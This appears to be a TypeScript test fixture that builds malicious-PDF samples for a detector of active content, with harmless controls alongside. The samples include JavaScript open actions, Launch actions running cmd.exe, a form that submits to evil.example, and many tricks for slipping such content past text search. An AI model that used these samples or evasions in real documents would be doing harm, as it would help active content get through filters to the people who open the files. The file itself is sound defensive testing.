import { deflateSync } from 'node:zlib';
import { objectStream, pdfWith, stream } from './pdf-parts.ts';

const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const inPage = (entries: string) => `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] ${entries} >>`;

/** Scripts, launch actions and embedded files in plain form. */
const plain: [string, Buffer][] = [
  ['OpenAction script', pdfWith({ catalog: `/OpenAction ${SCRIPT}` })],
  ['OpenAction script elsewhere', pdfWith({ catalog: '/OpenAction 4 0 R', objects: [SCRIPT] })],
  ['script without a type', pdfWith({ catalog: '/OpenAction 4 0 R', objects: ['<< /JS (x) >>'] })],
  ['script in a stream', pdfWith({ objects: ['<< /S /JavaScript /JS 5 0 R >>', stream('', 'app.alert(1)')] })],
  ['script among the names', pdfWith({ catalog: `/Names << /JavaScript << /Names [(a) ${SCRIPT}] >> >>` })],
  ['script of a page', pdfWith({ page: inPage(`/AA << /O ${SCRIPT} >>`) })],
  ['action of a page', pdfWith({ page: inPage('/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>') })],
  ['launch', pdfWith({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' })],
  ['launch by a link', pdfWith({ page: inPage('/Annots [<< /Type /Annot /Subtype /Link /A << /S /Launch /F (a.exe) >> >>]') })],
  ['launch, its kind elsewhere', pdfWith({ catalog: '/OpenAction << /S 4 0 R /F (cmd.exe) >>', objects: ['/Launch'] })],
  ['file inside', pdfWith({ catalog: '/Names << /EmbeddedFiles 4 0 R >>' })],
  ['file inside, by its specification', pdfWith({ objects: ['<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>', stream('', 'MZ')] })],
  ['file as a note', pdfWith({ page: inPage('/Annots [<< /Subtype /FileAttachment /FS 4 0 R >>]') })],
  ['another file opened', pdfWith({ catalog: '/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\x.pdf) /D [0 /Fit] >>' })],
  ['form that is sent away', pdfWith({ objects: ['<< /S /SubmitForm /F << /FS /URL /F (http://evil.example) >> >>'] })],
  ['data brought in', pdfWith({ objects: ['<< /S /ImportData /F (a.fdf) >>'] })],
  ['form of XML', pdfWith({ catalog: '/AcroForm << /XFA 4 0 R >>' })],
  ['rich media', pdfWith({ page: inPage('/Annots [<< /Subtype /RichMedia >>]') })],
  ['script in the trailer', pdfWith({ trailer: `/X ${SCRIPT}` })],
];

/** Disguised so that a plain text search does not find them. */
const disguised: [string, Buffer][] = [
  ['escaped name', pdfWith({ catalog: '/OpenAction << /S /J#61vaScript /J#53 (x) >>' })],
  ['wholly escaped name', pdfWith({ catalog: '/#4f#70#65#6e#41ction << /#4a#53 (x) >>' })],
  ['no blanks', pdfWith({ catalog: '/OpenAction<</S/JavaScript/JS(x)>>' })],
  ['other blanks', pdfWith({ catalog: '/OpenAction\0<<\f/S\t/JavaScript\r/JS\0(x)>>' })],
  ['comments between', pdfWith({ catalog: '/OpenAction %a\n<< %b\r/S%c\n/JavaScript%d\n/JS%e\n(x) >>' })],
  ['comment before the object', pdfWith({ loose: `4 0 %x\nobj %(\n${SCRIPT}\nendobj\n` })],
  ['number glued to the header', pdfWith({ loose: `4 0obj${SCRIPT}endobj\n` })],
  ['behind a string that never ends', pdfWith({ objects: ['(never', SCRIPT] })],
  ['inside a string', pdfWith({ objects: [`(4 0 obj ${SCRIPT} endobj)`] })],
  ['inside a comment', pdfWith({ loose: `% 4 0 obj ${SCRIPT} endobj\n` })],
  ['inside a stream', pdfWith({ objects: [stream('', `4 0 obj ${SCRIPT} endobj`, false)] })],
  ['behind a header in a string', pdfWith({ objects: ['<< /T (1 0 obj \\(% ) /JS (x) >>'] })],
  ['behind a header in a comment', pdfWith({ objects: ['<< %1 0 obj (\n /JS (x) >>'] })],
  ['behind a stream’s false length', pdfWith({ objects: ['<< /Length 9999 >>\nstream\nx\nendstream', SCRIPT] })],
  ['behind a closing that closes nothing', pdfWith({ objects: ['<< /X >> endobj /JS (x) >>'] })],
  ['behind a bracket that fits nothing', pdfWith({ objects: ['<< /X ] endobj /JS (x) >>'] })],
  ['an array before the script', pdfWith({ objects: [`[1 stream endobj ${SCRIPT}]`] })],
  ['after the first end', Buffer.concat([pdfWith({}), Buffer.from(`4 0 obj\n${SCRIPT}\nendobj\ntrailer\n<<>>\n%%EOF\n`)])],
];

const sums = (dictionary: (first: number, count: number) => string) => objectStream([SCRIPT], { dictionary });

/** Inside object streams. */
const packed: [string, Buffer][] = [
  ['packed', pdfWith({ objects: [objectStream(['<< /A 1 >>', SCRIPT])] })],
  ['packed names tree', pdfWith({ objects: [objectStream(['<< /Names [(a) 21 0 R] >>', '<< /J#53 (x) >>'])] })],
  ['packed launch', pdfWith({ objects: [objectStream(['<< /S /Launch /F (a.exe) >>'])] })],
  ['packed, of no type', pdfWith({ objects: [sums((first, count) => `/N ${count} /First ${first}`)] })],
  ['packed, its type elsewhere', pdfWith({ objects: [sums((first, count) => `/Type 9 0 R /N ${count} /First ${first}`)] })],
  ['packed, its entries elsewhere', pdfWith({ objects: [sums(() => '/Type /ObjStm /N 8 0 R /First 9 0 R')] })],
  ['packed, its entries twice', pdfWith({ objects: [sums((first, count) => `/Type /ObjStm /N ${count} /First 0 /First ${first}`)] })],
  ['packed in a string', pdfWith({ objects: [objectStream([`(never ${SCRIPT}`], { offsets: () => [7] })] })],
  ['packed in a comment', pdfWith({ objects: [objectStream([`% ${SCRIPT}`], { offsets: () => [2] })] })],
  ['packed by another filter', pdfWith({ objects: [sums((first) => `/Type /ObjStm /N 1 /First ${first} /Filter /LZWDecode`)] })],
  ['packed twice', pdfWith({ objects: [twice()] })],
  ['not packed', pdfWith({ objects: [objectStream([SCRIPT], { packed: false })] })],
  ['packed, broken', pdfWith({ objects: [objectStream(['<< /A 1 >>']).replace(/stream\n.{6}/s, 'stream\nbroken')] })],
  ['packed and encrypted', pdfWith({ trailer: '/Encrypt 9 0 R', objects: [encrypted()] })],
  ['packed to a thousandth', pdfWith({ objects: [stream('/Type /ObjStm /N 1 /First 4', `1 0 ${' '.repeat(10 * 1024 * 1024)}`)] })],
];

function twice(): string {
  const bytes = deflateSync(deflateSync(Buffer.from(`20 0 ${SCRIPT}`)));
  return `<< /Type /ObjStm /N 1 /First 5 /Filter [/FlateDecode /FlateDecode] >>\nstream\n${bytes.toString('latin1')}\nendstream`;
}

/** An encrypted stream, which cannot be inspected. */
function encrypted(): string {
  return stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', Buffer.alloc(64, 0x9b), false);
}

/** PDFs that may not be stored. */
export const ACTIVE_PDFS: readonly [name: string, bytes: Buffer][] = [...plain, ...disguised, ...packed];

const LINK = '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://city.example/JS/AA/Launch?a=\\(1\\)) >> >>';

/** Harmless PDFs with content that a naive check takes for active. */
export const ORDINARY_PDFS: readonly [name: string, bytes: Buffer][] = [
  ['links', pdfWith({ page: inPage(`/Annots [${LINK}]`) })],
  ['opened at its first page', pdfWith({ catalog: '/OpenAction [3 0 R /FitH null] /PageMode /UseOutlines' })],
  ['opened by an action', pdfWith({ catalog: '/OpenAction << /S /GoTo /D (start) >> /ViewerPreferences << /DisplayDocTitle true >>' })],
  ['words about scripts', pdfWith({ objects: ['<< /Title (How /JS and /JavaScript /Launch \\( work) /Author <2F4A53> >>'] })],
  ['pages that show the words', pdfWith({ objects: [stream('', 'BT (/JS /Launch << /AA >>) Tj ET', false)] })],
  ['a comment', pdfWith({ loose: '% made by /JavaScript /JS, so to say\n' })],
  ['fonts and pictures', pdfWith({ page: inPage('/Resources << /Font << /F1 4 0 R /TT1 4 0 R >> /XObject << /Im0 5 0 R >> >>') })],
  ['a colour profile', pdfWith({ objects: [stream('/N 3 /Alternate /DeviceRGB', 'profile')] })],
  ['outlines', pdfWith({ objects: ['<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>'] })],
  [
    'packed objects',
    pdfWith({ objects: [objectStream(['<< /Type /Annot /A << /S /URI /URI (http://a/JS/) >> >>', '[1 2 0 R]', '(a)', '12', '/Name'])] }),
  ],
  [
    'packed objects, in an array',
    pdfWith({ objects: [objectStream(['<< >>']).replace('/Filter /FlateDecode', '/Filter [/FlateDecode]')] }),
  ],
  [
    'a form to fill in',
    pdfWith({ catalog: '/AcroForm << /Fields [4 0 R] /DA (/Helv 0 Tf) >>', objects: ['<< /FT /Tx /T (name) /V () >>'] }),
  ],
  ['a signature', pdfWith({ objects: ['<< /Type /Sig /Filter /Adobe.PPKLite /ByteRange [0 9 9 9] /Contents <00> >>'] })],
  [
    'protected against changes, unpacked',
    pdfWith({ trailer: '/Encrypt 4 0 R', objects: ['<< /Filter /Standard /V 2 /O (\\(x) /U <00> >>'] }),
  ],
  ['changed once', Buffer.concat([pdfWith({}), Buffer.from('3 0 obj\n<< /Type /Page >>\nendobj\ntrailer\n<< /Prev 9 >>\n%%EOF\n')])],
];
